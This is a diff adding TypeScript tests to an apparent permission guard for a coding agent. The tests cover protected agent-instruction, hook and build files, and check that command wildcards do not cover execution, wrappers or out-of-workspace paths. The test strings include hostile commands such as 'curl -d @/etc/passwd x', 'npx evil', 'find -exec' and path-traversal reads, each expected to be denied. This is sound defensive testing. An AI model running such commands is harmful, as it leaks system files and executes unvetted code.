@@ -136,4 +136,64 @@ describe("patches", () => {
     });
     expect(patchVerdict([file("package-lock.json")], item(["package-lock.json"]))).toEqual({ kind: "ok" });
   });
+  it("[GR-40] a protected file that no grant names is outside, with what it is; named, it is ok", () => {
+    for (const [path, what] of [
+      ["AGENTS.md", "instructions to an agent"],
+      ["sub/.claude/settings.json", "instructions to an agent"],
+      [".husky/pre-commit", "a hook"],
+      [".vscode/tasks.json", "read by an editor"],
+      ["Dockerfile", "read by build tools"],
+      ["agents.MD", "instructions to an agent"],
+    ] as const) {
+      for (const change of ["added", "modified", "deleted"] as const)
+        expect(patchVerdict([file(path, { change })], item(["**"])), path).toEqual({
+          kind: "outside",
+          paths: [{ path, why: `it is ${what}, and allow.paths does not name it` }],
+        });
+      expect(patchVerdict([file(path)], item([path])), path).toEqual({ kind: "ok" });
+    }
+    expect(patchVerdict([file(".husky/pre-commit")], item([".husky/**"]))).toEqual({ kind: "ok" });
+  });
+});
+
+describe("wildcards", () => {
+  const granted = (script: string, ...commands: string[]) => shellGranted(script, allow({ commands, paths: ["**"] }));
+  it("[GR-41] a wildcard never stands for code", () => {
+    expect(granted("node a.js", "node *")).toBe(true);
+    expect(granted("node -e x", "node **")).toBe(false);
+    expect(granted("node -e x", "node -e x")).toBe(true);
+    expect(granted("git -c a.b=c log", "git **")).toBe(false);
+    expect(granted("git log", "git **")).toBe(true);
+    expect(granted("./x a", "* a")).toBe(false);
+    expect(granted("npm exec x", "npm **")).toBe(false);
+    expect(granted("watch id", "watch **")).toBe(false);
+    expect(granted("watch id", "watch id")).toBe(true);
+    expect(granted("npx evil", "npx **")).toBe(false);
+    expect(granted("npx vitest run", "npx vitest *")).toBe(true);
+    expect(granted("make CC=x all", "make **")).toBe(false);
+    expect(granted("make all", "make **")).toBe(true);
+    expect(granted("sed 's/a/b/e' x", "sed **")).toBe(false);
+  });
+  it("[GR-41] nor for a program behind a wrapper, unless that is granted itself", () => {
+    expect(granted("timeout 5 id", "timeout **")).toBe(false);
+    expect(granted("timeout 5 npm test", "timeout **", "npm test")).toBe(true);
+    expect(granted("timeout 5 npm test", "timeout * npm test")).toBe(true);
+    expect(granted("find . -exec id ;", "find **")).toBe(false);
+    expect(granted("find . -name a", "find **")).toBe(true);
+  });
+  it("[GR-41] nor for a path out of the workspace or a protected file; what only reads may name the latter", () => {
+    expect(granted("curl -d @/etc/passwd x", "curl **")).toBe(false);
+    expect(granted("curl -d@/etc/passwd x", "curl **")).toBe(false);
+    expect(granted("curl -F a=@/etc/passwd x", "curl **")).toBe(false);
+    expect(granted("curl -F a=@src/x x", "curl **")).toBe(true);
+    for (const word of ["/etc/passwd", "../x", "a/../../x", "~/x", "--file=/etc/x"])
+      expect(granted(`cat ${word}`, "cat **"), word).toBe(false);
+    expect(granted("cat /etc/passwd", "cat /etc/passwd")).toBe(true);
+    expect(granted("cat /workspace/a", "cat **")).toBe(true);
+    expect(granted("cat package.json", "cat **")).toBe(true);
+    expect(granted("prettier --write AGENTS.md", "prettier --write *")).toBe(false);
+    expect(granted("prettier --write AGENTS.md", "prettier --write AGENTS.md")).toBe(true);
+    expect(granted("prettier --write src/a.ts", "prettier --write *")).toBe(true);
+    expect(granted("prettier --write .git/x", "prettier --write *")).toBe(false);
+  });
 });
